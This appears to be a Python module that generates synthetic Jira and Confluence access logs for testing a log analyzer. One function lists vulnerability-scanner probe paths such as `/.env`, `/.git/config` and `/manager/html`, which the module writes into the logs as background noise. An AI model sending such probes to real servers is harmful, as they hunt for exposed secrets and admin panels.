"""Realistic synthetic access logs of Jira and Confluence Data Center clusters.

`generate_logs` writes, for each cluster node, one Tomcat access log per day in the
product's default pattern and file name:

- Jira: ``node{k}/access_log.YYYY-MM-DD``, pattern
  ``%a %{jira.request.id}r %{jira.request.username}r %t "%m %U%q %H" %s %b %D
  "%{Referer}i" "%{User-Agent}i" "%{jira.request.assession.id}r"``
- Confluence 7.11+: ``node{k}/conf_access_log.YYYY-MM-DD.log``, pattern
  ``%t %{X-AUSERNAME}o %I %h %r %s %Dms %b %{Referer}i %{User-Agent}i``

What the traffic looks like, because the analyzer's tests and benchmark rely on it:

- People with a diurnal rhythm (arrivals around 8-9, lunch, leaving from 15 on) and a
  weekly one (weekends light), in the local time of node 1.
- People work in browser sessions of 10 minutes to a few hours. A session sticks to one
  node; the next session may land on another, so a user shows on several nodes, and at
  times on two at once (an idle tab on one node, new work or a phone on another).
- A page load is the page, then static resources (Jira logs `/s/` resources with user `-`
  but the session's ASESSIONID; Confluence logs them with the username), then REST calls
  of the page's scripts.
- A tab left open keeps polling under the user's name: notification count, analytics,
  ScriptRunner banner, the agile board every 30 s, Confluence quick-reload every 30 s.
  Confluence's editor sends heartbeats every 30 s while someone types: real work.
- Anonymous traffic (load-balancer health checks, the linked application's capability
  calls, login pages, vulnerability scanners) and one service account, `svc-reporting`,
  calling REST every 30 minutes around the clock.
- `%t` is when a request started, but Tomcat writes the line when it completes, so a few
  percent of lines are a second or a few older than the line before them. Jira's request
  ids count a node's requests in start order; their last part is the requests in flight.
- Usernames, Referer and User-Agent are escaped as recent Tomcat versions do it (see
  `tomcat_escape`); some usernames are non-ASCII, so `\\uXXXX` escapes appear.

The output is a pure function of the arguments: one `random.Random` seeded from `seed`, no
clock, no global random state, no iteration over hash-ordered sets.
"""

from __future__ import annotations

import gc
import gzip as gzip_format
import random
from bisect import bisect_left
from collections.abc import Iterator, Sequence
from dataclasses import dataclass, field
from datetime import date
from functools import cache
from operator import itemgetter
from pathlib import Path
from typing import Final, Literal

__all__ = [
    "DEFAULT_START",
    "SERVICE_ACCOUNT",
    "GeneratedLogs",
    "Product",
    "generate_logs",
    "log_file_name",
    "tomcat_escape",
]

Product = Literal["jira", "confluence"]

DEFAULT_START: Final = date(2026, 1, 5)  # a Monday
SERVICE_ACCOUNT: Final = "svc-reporting"

SECOND_MS: Final = 1_000
MINUTE_MS: Final = 60_000
HOUR_MS: Final = 3_600_000
DAY_MS: Final = 86_400_000

_MONTHS: Final = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
_BASE_URL: Final = {"jira": "https://jira.example.com", "confluence": "https://wiki.example.com"}
_PROTOCOL: Final = " HTTP/1.1"
_LOAD_BALANCER_IP: Final = "10.0.0.10"
_LINKED_APP_IP: Final = "10.0.5.20"
_SERVICE_IP: Final = "10.0.7.31"
_HEALTH_CHECK_EVERY_MS: Final = 30 * SECOND_MS
_CAPABILITIES_EVERY_MS: Final = 10 * MINUTE_MS
_SERVICE_ACCOUNT_EVERY_MS: Final = 30 * MINUTE_MS
_LONGEST_REQUEST_MS: Final = 10 * SECOND_MS
_CHUNK_LINES: Final = 4096  # lines formatted, joined and written at a time


# --------------------------------------------------------------------------- public API


@dataclass(frozen=True, slots=True)
class GeneratedLogs:
    """What `generate_logs` wrote."""

    out_dir: Path
    product: Product
    files: tuple[Path, ...]  # node by node, each node's days in date order
    lines: int  # lines written, malformed ones included
    usernames: frozenset[str]  # every username in the logs, as logged before escaping
    service_accounts: frozenset[str]  # the usernames that are machines, not people
    first_day: date
    last_day: date


def log_file_name(product: Product, day: date, *, gzip: bool = False) -> str:
    """The name the product gives the access log of `day`, plus `.gz` when compressed."""
    if product == "jira":
        name = f"access_log.{day:%Y-%m-%d}"
    else:
        name = f"conf_access_log.{day:%Y-%m-%d}.log"
    return name + ".gz" if gzip else name


_CONTROL_ESCAPES: Final = {"\t": "\\t", "\n": "\\n", "\f": "\\f", "\r": "\\r"}


def tomcat_escape(value: str) -> str:
    """`value` as recent Tomcat versions log a header, request attribute or username.

    `"` becomes `\\"` and a backslash `\\\\`; tab, newline, form feed and carriage return
    become `\\t`, `\\n`, `\\f`, `\\r`; every other character outside printable ASCII becomes
    `\\uXXXX` with four lowercase hex digits (as Tomcat's HexUtils writes them), one per
    UTF-16 code unit, so a character beyond the BMP comes as a surrogate pair. An empty
    value is logged as `-`.
    """
    if not value:
        return "-"
    if value.isascii() and value.isprintable() and '"' not in value and "\\" not in value:
        return value
    parts: list[str] = []
    for char in value:
        code = ord(char)
        if 0x20 <= code < 0x7F:
            parts.append("\\" + char if char in '"\\' else char)
        elif char in _CONTROL_ESCAPES:
            parts.append(_CONTROL_ESCAPES[char])
        elif code > 0xFFFF:
            code -= 0x10000
            parts.append(f"\\u{0xD800 + (code >> 10):04x}\\u{0xDC00 + (code & 0x3FF):04x}")
        else:
            parts.append(f"\\u{code:04x}")
    return "".join(parts)


def generate_logs(
    out_dir: Path,
    *,
    product: Product,
    users: int,
    days: int,
    nodes: int,
    seed: int = 0,
    start: date | None = None,
    utc_offset: str | Sequence[str] = "+0000",
    malformed_every: int | None = None,
    gzip: bool = False,
) -> GeneratedLogs:
    """Write `days` days of access logs of a `nodes`-node cluster used by `users` people.

    `start` is the first day (default `DEFAULT_START`, a Monday). `utc_offset` is
    `[+-]HHMM`, one for all nodes or a sequence with one per node; a node's timestamps and
    its daily file rotation are in its offset, people's working hours in node 1's. With
    `malformed_every=N`, lines N, 2N, 3N, ... of each file are cut short at a random point
    no later than the request's protocol, so that they miss fields of the pattern. With
    `gzip`, the files are gzip-compressed (level 6, no timestamp in the header, so the
    bytes stay reproducible) and named with `.gz`. Files of the same names are replaced;
    nothing else in `out_dir` is touched.
    """
    if product not in ("jira", "confluence"):
        raise ValueError(f"product must be 'jira' or 'confluence', not {product!r}")
    if users < 0:
        raise ValueError("users must be 0 or more")
    if days < 1 or nodes < 1:
        raise ValueError("days and nodes must be 1 or more")
    if malformed_every is not None and malformed_every < 1:
        raise ValueError("malformed_every must be 1 or more")
    offsets = [utc_offset] * nodes if isinstance(utc_offset, str) else list(utc_offset)
    if len(offsets) != nodes:
        raise ValueError(f"utc_offset: {len(offsets)} offsets given for {nodes} nodes")
    first_day = start if start is not None else DEFAULT_START

    simulation = _Simulation(
        out_dir=out_dir,
        product=product,
        user_count=users,
        days=days,
        first_day=first_day,
        offset_minutes=[_parse_offset(text) for text in offsets],
        seed=seed,
        malformed_every=malformed_every,
        gzip=gzip,
    )
    # Millions of queued lines would make every cyclic collection rescan them, for nothing:
    # the simulation makes no cycles.
    collecting = gc.isenabled()
    gc.disable()
    try:
        simulation.run()
    finally:
        if collecting:
            gc.enable()
    return GeneratedLogs(
        out_dir=out_dir,
        product=product,
        files=tuple(sorted(simulation.files, key=simulation.files.__getitem__)),
        lines=simulation.lines_written,
        usernames=frozenset(simulation.usernames_written),
        service_accounts=frozenset({SERVICE_ACCOUNT} & simulation.usernames_written),
        first_day=first_day,
        last_day=date.fromordinal(first_day.toordinal() + days - 1),
    )


def _parse_offset(text: str) -> int:
    """Minutes east of UTC of an offset written `[+-]HHMM`."""
    if len(text) != 5 or text[0] not in "+-" or not text[1:].isdigit():
        raise ValueError(f"utc_offset must look like +0100 or -0530, not {text!r}")
    hours, minutes = int(text[1:3]), int(text[3:])
    if hours > 14 or minutes > 59:
        raise ValueError(f"utc_offset out of range: {text!r}")
    return (hours * 60 + minutes) * (1 if text[0] == "+" else -1)


# --------------------------------------------------------------------------- requests

# A request a browser or client sends, ready to be given a time:
# (after_ms, after_spread_ms, request, request_after_clock, outcomes,
#  took_ms, took_spread_ms, anonymous, chance)
# - it starts after_ms + u * after_spread_ms after its page arrived (u uniform in [0, 1));
# - the request is "METHOD URI PROTOCOL"; when request_after_clock is not None, the client's
#   clock in epoch milliseconds goes between the two (cache busters such as `?_=17...`);
# - outcomes are (status, bytes) pairs to pick from; bytes is "-" for none;
# - it takes took_ms + u**3 * took_spread_ms: mostly quick, now and then slow;
# - anonymous requests log user `-` (Jira's `/s/` resources);
# - chance is the probability that the browser sends it at all (caches).
_Spec = tuple[int, int, str, str | None, tuple[tuple[str, str], ...], int, int, bool, float]

# A request waiting to be written: (start_ms, end_ms, address, user, date, request, status,
# bytes, took_ms, tail). Times are the node's local milliseconds since the midnight before
# the first day; `user` is escaped or `-`; `date` is `dd/Mon/yyyy` of the start; the tail
# is what follows the duration (and bytes), newline included. Lines are formatted only
# when their file is written, so that the strings of millions of waiting lines never exist
# at once: the queued tuples share their strings with the catalog and the sessions.
_Pending = tuple[int, int, str, str, str, str, str, str, int, str]

_START: Final = itemgetter(0)
_END: Final = itemgetter(1)


class _SpecMaker:
    """Makes request specs from "METHOD URI" and a line of traits, e.g.

        make("GET /rest/menu/latest/appswitcher?_={epoch}", "200 180-900B after 150-500ms")

    The URI may hold one `{epoch}`, the client's clock. Traits: the status first, then any
    of `MIN-MAXB` (body sizes; none: bytes `-`), `MIN-MAXms` (durations, default 2-40ms),
    `after MIN-MAXms` (delay after the page arrived), `anon` (logged with user `-`),
    `chance P` (share of page loads that send it), `cached P` (share of 304 answers).
    """

    def __init__(self, rng: random.Random) -> None:
        self.rng = rng

    def __call__(self, request: str, traits: str = "200") -> _Spec:
        status, *tokens = traits.split()
        size, took, after = (0, 0), (2, 40), (0, 0)
        anon, chance, cached = False, 1.0, 0.0
        words = iter(tokens)
        for word in words:
            if word == "after":
                after = _span(next(words), "ms")
            elif word == "anon":
                anon = True
            elif word == "chance":
                chance = float(next(words))
            elif word == "cached":
                cached = float(next(words))
            elif word.endswith("ms"):
                took = _span(word, "ms")
            elif word.endswith("B"):
                size = _span(word, "B")
            else:
                raise ValueError(f"unknown trait {word!r} in {traits!r}")
        # Jira's in-flight count needs every request to end after it starts; carrying lines
        # over midnight needs a bound on durations.
        if not 1 <= took[0] <= took[1] <= _LONGEST_REQUEST_MS:
            raise ValueError(f"durations must lie in 1-{_LONGEST_REQUEST_MS}ms: {traits!r}")
        sizes = [self.rng.randint(*size) for _ in range(4)] if size[1] else [0] * 4
        outcomes = [(status, str(n) if n else "-") for n in sizes]
        if cached:
            outcomes += [("304", "-")] * max(1, round(4 * cached / (1 - cached)))
        before, marker, rest = (request + _PROTOCOL).partition("{epoch}")
        return (
            after[0],
            after[1] - after[0],
            before,
            rest if marker else None,
            tuple(outcomes),
            took[0],
            took[1] - took[0],
            anon,
            chance,
        )


def _span(text: str, unit: str) -> tuple[int, int]:
    """(low, high) of `10-600ms` or `19B`."""
    low, _, high = text.removesuffix(unit).partition("-")
    return int(low), int(high or low)


@dataclass(frozen=True, slots=True)
class _Page:
    """Something a user does in the browser: load a page, or act on the open one."""

    url: str  # absolute URL, the Referer of what the page loads
    main: _Spec
    subs: tuple[_Spec, ...]
    polls: tuple[tuple[int, _Spec], ...]  # (every_ms, request) while the tab stays open
    is_action: bool = False  # an AJAX action: the open page stays open
    heartbeat: _Spec | None = None  # an editor: heartbeats while the user types ...
    publish: _Spec | None = None  # ... until this


@dataclass(frozen=True, slots=True)
class _Catalog:
    """What people do in one product, with weights, and what machines do."""

    kinds: tuple[tuple[float, tuple[_Page, ...]], ...]  # (weight, pages of that kind)
    board_kind: int  # the kind that board fans keep open
    login: tuple[_Spec, ...]  # the login page, anonymous
    login_post: _Spec  # the login form's post, which names the user
    health: _Spec
    capabilities: tuple[_Spec, ...]
    capabilities_agent: str
    service_calls: tuple[_Spec, ...]  # by the service account
    scanner_probes: tuple[_Spec, ...]


def _hex(rng: random.Random, digits: int = 32) -> str:
    return f"{rng.getrandbits(digits * 4):0{digits}x}"


def _base36(number: int) -> str:
    digits = "0123456789abcdefghijklmnopqrstuvwxyz"
    text = ""
    while True:
        number, remainder = divmod(number, 36)
        text = digits[remainder] + text
        if not number:
            return text


_ANALYTICS: Final = "POST /rest/analytics/1.0/publish/bulk"
_NOTIFICATION_COUNT: Final = "GET /rest/mywork/latest/status/notification/count"
_WORDS: Final = (
    "Onboarding Release Notes Roadmap Architecture Decision Record Runbook Incident Review "
    "Meeting Team Goals Quarterly Planning Retrospective Design System API Guidelines How To "
    "Troubleshooting Checklist Budget Hiring Process Security Policy Backup Strategy Sprint "
    "Demo Customer Feedback Product Requirements Test Plan Deployment Pipeline Overview"
).split()


def _jira_catalog(s: random.Random) -> _Catalog:
    make = _SpecMaker(s)
    base = _BASE_URL["jira"]
    projects = "OPS WEB MOB PLAT SUP DATA FIN HR SEC INFRA".split()
    build = (
        f"-{_base36(s.getrandbits(30))}/{s.randint(900_000, 950_000)}/{_base36(s.getrandbits(27))}"
    )

    def batch(kind: str, contexts: str) -> str:
        query = "?locale=en-UK" if kind == "js" else ""
        return (
            f"GET /s/{_hex(s)}-CDN/{build}/{_hex(s)}/_/download/contextbatch/{kind}/"
            f"{contexts}/batch.{kind}{query}"
        )

    def statics(contexts: str) -> list[_Spec]:
        look = batch("js", "jira.global.look-and-feel,-_super")
        wiki = f"GET /s/{build}/1.0/_/download/resources/jira.webresources:global-static/wiki.css"
        avatar = f"GET /secure/useravatar?size=xsmall&avatarId={s.randint(10_100, 10_500)}"
        return [
            make(
                batch("css", contexts),
                "200 40000-240000B 3-400ms after 2-40ms anon chance 0.35 cached 0.3",
            ),
            make(
                batch("js", contexts),
                "200 80000-900000B 5-900ms after 2-40ms anon chance 0.35 cached 0.3",
            ),
            make(look, "200 900-4000B 2-30ms after 5-60ms anon chance 0.5 cached 0.5"),
            make(wiki, "200 2000-9000B 1-20ms after 5-60ms anon chance 0.3 cached 0.5"),
            make(
                "GET /images/icons/priorities/medium.svg",
                "200 400-900B 1-10ms after 40-200ms chance 0.4 cached 0.5",
            ),
            make(avatar, "200 900-4000B 2-30ms after 40-200ms chance 0.5"),
        ]

    shortcuts = f"{s.randint(900_000, 950_000)}/{_hex(s)}"

    def page_scripts(context: str) -> list[_Spec]:
        return [
            make("GET /rest/menu/latest/appswitcher?_={epoch}", "200 180-900B after 150-500ms"),
            make("GET /rest/scriptrunner/latest/message?_={epoch}", "204 2-15ms after 150-600ms"),
            make(
                f"GET /rest/api/1.0/shortcuts/{shortcuts}/shortcuts.js?context={context}",
                "200 900-1500B after 150-600ms chance 0.5",
            ),
            make("POST /rest/webResources/1.0/resources", "200 300-30000B 5-120ms after 300-900ms"),
            make("GET /rest/helptips/1.0/tips?_={epoch}", "200 40-300B after 300-900ms chance 0.6"),
            make(_ANALYTICS, "200 2-20ms after 800-2500ms"),
        ]

    polls = (
        (60 * SECOND_MS, make(_NOTIFICATION_COUNT + "?_={epoch}", "200 60-120B 2-30ms")),
        (5 * MINUTE_MS, make(_ANALYTICS, "200 2-20ms")),
        (5 * MINUTE_MS, make("GET /rest/scriptrunner/latest/message?_={epoch}", "204 2-15ms")),
    )

    def page(path: str, traits: str, *subs: _Spec) -> _Page:
        return _Page(url=base + path, main=make(f"GET {path}", traits), subs=subs, polls=polls)

    issues = [f"{s.choice(projects)}-{s.randint(1, 4000)}" for _ in range(300)]
    issue_pages = []
    for key in issues:
        issue_id = s.randint(10_000, 99_999)
        issue_type = f"avatarId={s.randint(10_300, 10_330)}&avatarType=issuetype"
        issue_pages.append(
            page(
                f"/browse/{key}",
                "200 60000-180000B 120-2200ms",
                *statics("jira.view.issue,viewissue.standalone,jira.global,-_super"),
                *page_scripts("issueaction"),
                make(
                    f"GET /rest/dev-status/1.0/issue/summary?issueId={issue_id}&_={{epoch}}",
                    "200 100-600B 10-600ms after 400-1200ms",
                ),
                make(
                    f"GET /secure/viewavatar?size=xsmall&{issue_type}",
                    "200 300-2000B after 40-300ms chance 0.6 cached 0.4",
                ),
                make(
                    f"GET /rest/api/2/issue/{issue_id}/remotelink",
                    "200 2-900B 5-200ms after 400-1200ms chance 0.7",
                ),
            )
        )

    dashboard_pages = []
    for query in ("", *(f"?selectPageId={s.randint(10_100, 10_900)}" for _ in range(4))):
        filters = [s.randint(10_000, 12_000) for _ in range(s.randint(2, 5))]
        gadgets = [
            make(
                f"GET /rest/gadget/1.0/issueTable/filter?num=10&filterId={filter_id}"
                "&addDefault=true&enableSorting=true&_={epoch}",
                "200 2000-40000B 80-4500ms after 600-1800ms",
            )
            for filter_id in filters
        ]
        dashboard_pages.append(
            page(
                f"/secure/Dashboard.jspa{query}",
                "200 40000-90000B 150-2500ms",
                *statics("atl.dashboard,jira.global,jira.general,-_super"),
                *page_scripts("dashboard"),
                *gadgets,
                make(
                    "POST /plugins/servlet/gadgets/dashboard-diagnostics",
                    "200 300-400B after 600-1500ms",
                ),
            )
        )

    search_pages = []
    for _ in range(40):
        project = s.choice(projects)
        jql = s.choice(
            (
                f"project%20%3D%20{project}%20ORDER%20BY%20updated%20DESC",
                "assignee%20%3D%20currentUser()%20AND%20resolution%20%3D%20Unresolved",
                f"project%20%3D%20{project}%20AND%20status%20%3D%20%22In%20Progress%22",
                f"filter%3D{s.randint(10_000, 12_000)}",
            )
        )
        search_pages.append(
            page(
                f"/issues/?jql={jql}",
                "200 50000-120000B 150-2000ms",
                *statics("jira.navigator,jira.global,-_super"),
                *page_scripts("issuenavigation"),
                make(
                    "POST /rest/issueNav/1/issueTable",
                    "200 5000-90000B 100-5000ms after 400-1200ms",
                ),
                make(
                    "POST /rest/orderbycomponent/latest/orderByOptions/primary",
                    "200 500-3000B after 600-1500ms chance 0.5",
                ),
                make(
                    "GET /rest/api/2/filter/favourite?expand=subscriptions[-5:]&_={epoch}",
                    "200 200-5000B 5-150ms after 400-1200ms",
                ),
            )
        )

    board_pages = []
    for _ in range(12):
        view, project = s.randint(1, 400), s.choice(projects)
        board = f"rapidViewId={view}"
        all_data = "GET /rest/greenhopper/1.0/xboard/work/allData.json"
        all_data += f"?{board}&selectedProjectKey={project}"
        board_page = page(
            f"/secure/RapidBoard.jspa?rapidView={view}&projectKey={project}",
            "200 50000-110000B 150-1800ms",
            *statics("greenhopper-rapid-non-gadget,gh-rapid,jira.global,-_super"),
            *page_scripts("greenhopper"),
            make(
                f"GET /rest/greenhopper/1.0/xboard/config.json?{board}&_={{epoch}}",
                "200 900-3000B 20-600ms after 300-900ms",
            ),
            make(all_data + "&_={epoch}", "200 5000-400000B 60-5000ms after 300-900ms"),
            make(
                f"GET /rest/greenhopper/1.0/rapidviewconfig/editmodel.json?{board}&_={{epoch}}",
                "200 9000-30000B 40-900ms after 300-900ms",
            ),
        )
        # The board refreshes itself every 30 s, asking whether anything changed.
        refresh = (30 * SECOND_MS, make(all_data + "&etag={epoch}", "200 400-900B 20-400ms"))
        board_pages.append(
            _Page(board_page.url, board_page.main, board_page.subs, (*polls, refresh))
        )

    project_pages = [
        page(
            f"/projects/{project}/issues",
            "200 40000-90000B 120-1500ms",
            *statics("jira.project.sidebar,jira.global,-_super"),
            *page_scripts("project"),
        )
        for project in projects
    ]

    # Actions on the open page: no page load; their Referer is the open page.
    def action(request: str, traits: str, *subs: _Spec) -> _Page:
        after_it = make(_ANALYTICS, "200 2-20ms after 100-900ms")
        main = make(request, traits)
        return _Page(url="", main=main, subs=subs or (after_it,), polls=polls, is_action=True)

    action_pages = []
    for key in issues[:150]:
        issue_id = s.randint(10_000, 99_999)
        action_pages += [
            action(f"POST /rest/api/2/issue/{key}/comment", "201 900-4000B 60-900ms"),
            action("POST /secure/AjaxIssueAction.jspa?decorator=none", "200 2000-30000B 80-1500ms"),
            action(
                f"POST /secure/QuickEditIssue.jspa?issueId={issue_id}&decorator=none",
                "200 3000-60000B 100-2500ms",
            ),
            action(f"PUT /rest/api/2/issue/{key}/assignee", "204 40-600ms"),
        ]
    create_issue = action(
        "GET /secure/QuickCreateIssue!default.jspa?decorator=none",
        "200 20000-80000B 80-1200ms",
        make(
            "POST /secure/QuickCreateIssue.jspa?decorator=none",
            "200 1500-6000B 100-2500ms after 20000-150000ms",
        ),
        make(_ANALYTICS, "200 2-20ms after 21000-151000ms"),
    )

    return _Catalog(
        kinds=(
            (38.0, tuple(issue_pages)),
            (10.0, tuple(dashboard_pages)),
            (12.0, tuple(search_pages)),
            (12.0, tuple(board_pages)),
            (6.0, tuple(project_pages)),
            (18.0, tuple(action_pages)),
            (4.0, (create_issue,)),
        ),
        board_kind=3,
        login=(
            make("GET /", "302 2-30ms"),
            make("GET /login.jsp", "200 8000-12000B 20-300ms after 50-200ms"),
            make(
                batch("css", "jira.global,-_super"),
                "200 40000-200000B 3-300ms after 60-300ms anon chance 0.6",
            ),
            make(
                batch("js", "jira.global,-_super"),
                "200 80000-700000B 5-600ms after 60-300ms anon chance 0.6",
            ),
        ),
        login_post=make("POST /login.jsp", "302 40-700ms"),
        health=make("GET /status", "200 19B 1-6ms"),
        capabilities=(
            make("GET /rest/capabilities", "200 1504B 3-12ms"),
            make(
                "GET /rest/capabilities/navigation?lang=en-GB",
                "200 990-995B 4-15ms after 4000-6000ms",
            ),
        ),
        capabilities_agent="Confluence-8.5.4 (9012)",
        service_calls=(
            make(
                "GET /rest/api/2/search?jql=updated%3E%3D-30m&startAt=0&maxResults=100",
                "200 2000-300000B 60-3000ms",
            ),
            make(
                "GET /rest/api/2/search?jql=updated%3E%3D-30m&startAt=100&maxResults=100",
                "200 2000-300000B 60-3000ms after 3000-8000ms chance 0.5",
            ),
            make("GET /rest/api/2/field", "200 30000-60000B 20-300ms after 200-900ms"),
            make("GET /rest/api/2/project", "200 3000-9000B 20-300ms after 300-1200ms"),
        ),
        scanner_probes=_scanner_probes(make),
    )


def _confluence_catalog(s: random.Random) -> _Catalog:
    make = _SpecMaker(s)
    base = _BASE_URL["confluence"]
    spaces = "ENG OPS HR MKT SALES DOCS IT PM LEGAL DS".split()
    build = str(s.randint(9000, 9100))

    def batch(kind: str, contexts: str) -> str:
        query = "?locale=en-GB" if kind == "js" else ""
        return (
            f"GET /s/{_hex(s, 8)}-CDN/{_base36(s.getrandbits(30))}/{build}/{_hex(s)}/_/download"
            f"/contextbatch/{kind}/{contexts}/batch.{kind}{query}"
        )

    def statics(contexts: str) -> list[_Spec]:
        logo = f"GET /s/en_GB/{build}/{_hex(s, 40)}/_/images/logo/confluence-logo.png"
        return [
            make(
                batch("css", contexts),
                "200 30000-300000B 3-400ms after 2-40ms chance 0.35 cached 0.3",
            ),
            make(
                batch("js", contexts),
                "200 60000-1200000B 5-900ms after 2-40ms chance 0.35 cached 0.3",
            ),
            make(logo, "200 3000-4000B 1-10ms after 20-120ms chance 0.4 cached 0.5"),
            make(
                "GET /images/icons/profilepics/default.svg",
                "200 1206B 1-20ms after 40-200ms chance 0.5 cached 0.5",
            ),
        ]

    shortcuts = f"GET /rest/shortcuts/latest/shortcuts/{build}/{_hex(s)}?_={{epoch}}"

    def page_scripts(page_id: int | None) -> list[_Spec]:
        page_query = f"pageid={page_id}&" if page_id else ""
        return [
            make("POST /rest/webResources/1.0/resources", "200 300-40000B 5-150ms after 200-700ms"),
            make(f"{_NOTIFICATION_COUNT}?{page_query}_={{epoch}}", "200 60-120B after 300-900ms"),
            make(shortcuts, "200 3000-4000B after 300-900ms chance 0.5"),
            make("GET /rest/helptips/1.0/tips?_={epoch}", "200 40-300B after 300-900ms chance 0.6"),
            make(_ANALYTICS, "204 2-20ms after 800-2500ms"),
        ]

    polls = (
        (60 * SECOND_MS, make(_NOTIFICATION_COUNT + "?_={epoch}", "200 60-120B 2-30ms")),
        (5 * MINUTE_MS, make(_ANALYTICS, "204 2-20ms")),
    )

    def page(path: str, traits: str, *subs: _Spec) -> _Page:
        return _Page(url=base + path, main=make(f"GET {path}", traits), subs=subs, polls=polls)

    view_pages, edit_pages, comment_actions = [], [], []
    for _ in range(400):
        page_id, space = s.randint(65_000, 250_000_000), s.choice(spaces)
        title = "+".join(s.sample(_WORDS, s.randint(1, 4)))
        modified = s.randint(1_600_000_000, 1_760_000_000)
        attachment = f"/download/attachments/{page_id}/image-{s.randint(1, 9)}.png"
        attachment += f"?version=1&modificationDate={modified}000&api=v2"
        path = s.choice(
            (
                f"/display/{space}/{title}",
                f"/pages/viewpage.action?pageId={page_id}",
                f"/spaces/{space}/pages/{page_id}/{title}",
            )
        )
        view = page(
            path,
            "200 40000-250000B 100-2500ms",
            *statics("main,atl.general,atl.confluence.plugins.pagetree-desktop,-_super"),
            *page_scripts(page_id),
            make(
                f"GET /rest/likes/1.0/content/{page_id}/likes?commentLikes=true&_={{epoch}}",
                "200 40-900B after 500-1500ms",
            ),
            make(
                f"GET /rest/inlinecomments/1.0/comments?containerId={page_id}&_={{epoch}}",
                "200 2-5000B 5-300ms after 500-1500ms",
            ),
            make(
                f"GET /rest/highlighting/1.0/panel-items?pageId={page_id}&_={{epoch}}",
                "200 200-600B after 500-1500ms chance 0.7",
            ),
            make(f"GET {attachment}", "200 20000-900000B 5-1500ms after 100-600ms chance 0.4"),
        )
        # The page asks every 30 s whether someone else changed it.
        quick_reload = make(f"GET /rest/quickreload/latest/{page_id}?since={{epoch}}", "204 2-25ms")
        view_pages.append(
            _Page(view.url, view.main, view.subs, (*polls, (30 * SECOND_MS, quick_reload)))
        )
        editor = page(
            f"/pages/editpage.action?pageId={page_id}",
            "200 60000-200000B 200-3000ms",
            *statics("editor,macro-browser,atl.general,-_super"),
            make("POST /rest/webResources/1.0/resources", "200 300-40000B 5-150ms after 200-700ms"),
            make(
                f"GET /rest/api/content/{page_id}?status=draft&expand=body.storage",
                "200 2000-90000B 20-900ms after 300-900ms",
            ),
            make(_ANALYTICS, "204 2-20ms after 800-2500ms"),
        )
        edit_pages.append(
            _Page(
                editor.url,
                editor.main,
                editor.subs,
                polls,
                heartbeat=make("POST /json/startheartbeatactivity.action", "200 40-120B 3-40ms"),
                publish=make(f"PUT /rest/api/content/{page_id}", "200 2000-9000B 150-3500ms"),
            )
        )
        comment_actions.append(
            _Page(
                url="",
                main=make(
                    f"POST /rest/tinymce/1/content/{page_id}/comment?actions=true",
                    "200 900-5000B 80-1500ms",
                ),
                subs=(make(_ANALYTICS, "204 2-20ms after 100-900ms"),),
                polls=polls,
                is_action=True,
            )
        )

    dashboard_pages = [
        page(
            path,
            "200 30000-80000B 100-1800ms",
            *statics("dashboard,atl.general,-_super"),
            *page_scripts(None),
            make(
                "GET /rest/dashboardmacros/1.0/updates?maxResults=40&tab=all&_={epoch}",
                "200 2000-40000B 50-4000ms after 400-1200ms",
            ),
            make(
                "GET /rest/recentlyviewed/1.0/recent/spaces?limit=12&_={epoch}",
                "200 200-3000B 5-200ms after 400-1200ms",
            ),
        )
        for path in ("/index.action", "/dashboard.action")
    ]
    search_pages = []
    for _ in range(40):
        query = "+".join(s.sample(_WORDS, s.randint(1, 2))).lower()
        cql = f"cql=siteSearch+~+%22{query}%22"
        search_pages.append(
            page(
                f"/dosearchsite.action?{cql}&queryString={query}",
                "200 30000-70000B 100-1500ms",
                *statics("search,atl.general,-_super"),
                *page_scripts(None),
                make(
                    f"GET /rest/api/search?{cql}&start=0&limit=20&_={{epoch}}",
                    "200 2000-60000B 60-4000ms after 300-900ms",
                ),
            )
        )
    space_pages = [
        page(
            f"/spaces/{space}/overview",
            "200 40000-120000B 100-2000ms",
            *statics("main,atl.general,-_super"),
            *page_scripts(None),
        )
        for space in spaces
    ]
    return _Catalog(
        kinds=(
            (48.0, tuple(view_pages)),
            (9.0, tuple(dashboard_pages)),
            (9.0, tuple(search_pages)),
            (7.0, tuple(space_pages)),
            (7.0, tuple(edit_pages)),
            (6.0, tuple(comment_actions)),
        ),
        board_kind=0,  # no boards in Confluence; the fans keep pages open instead
        login=(
            make("GET /", "302 2-30ms"),
            make(
                "GET /login.action?os_destination=%2Findex.action",
                "200 8000-12000B 20-300ms after 50-200ms",
            ),
            make(
                batch("css", "login,atl.general,-_super"),
                "200 30000-200000B 3-300ms after 60-300ms chance 0.6",
            ),
        ),
        login_post=make("POST /dologin.action", "302 40-700ms"),
        health=make("GET /status", "200 20B 1-6ms"),
        capabilities=(
            make("GET /rest/capabilities", "200 1600B 3-12ms"),
            make("GET /rest/applinks/3.0/manifest", "200 700-720B 4-15ms after 3000-6000ms"),
        ),
        capabilities_agent="Apache-HttpClient/4.5.14 (Java/17.0.9)",
        service_calls=(
            make(
                "GET /rest/api/content/search?cql=lastmodified%3E%3Dnow(%22-30m%22)&limit=100",
                "200 2000-200000B 60-3000ms",
            ),
            make("GET /rest/api/space?limit=100", "200 3000-30000B 20-400ms after 300-1200ms"),
            make(
                "GET /rest/api/group/confluence-users/member?limit=200",
                "200 10000-80000B 30-900ms after 300-1200ms chance 0.5",
            ),
        ),
        scanner_probes=_scanner_probes(make),
    )


def _scanner_probes(make: _SpecMaker) -> tuple[_Spec, ...]:
    paths = (
        "/.env /wp-login.php /.git/config /manager/html /phpmyadmin/ /actuator/health "
        "/cgi-bin/luci /server-status /config.json /owa/auth/logon.aspx /solr/admin/info/system"
    ).split()
    return tuple(make(f"GET {path}", "404 2000-2600B 2-40ms after 300-3000ms") for path in paths)


# Browsers, weighted by how often they appear. Some corporate proxies append a quoted tag.
_BROWSER_AGENTS: Final = (
    (
        30,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36",
    ),  # fmt: skip
    (
        14,
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.86",
    ),  # fmt: skip
    (14, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0"),
    (
        14,
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.0.0 Safari/537.36",
    ),  # fmt: skip
    (
        8,
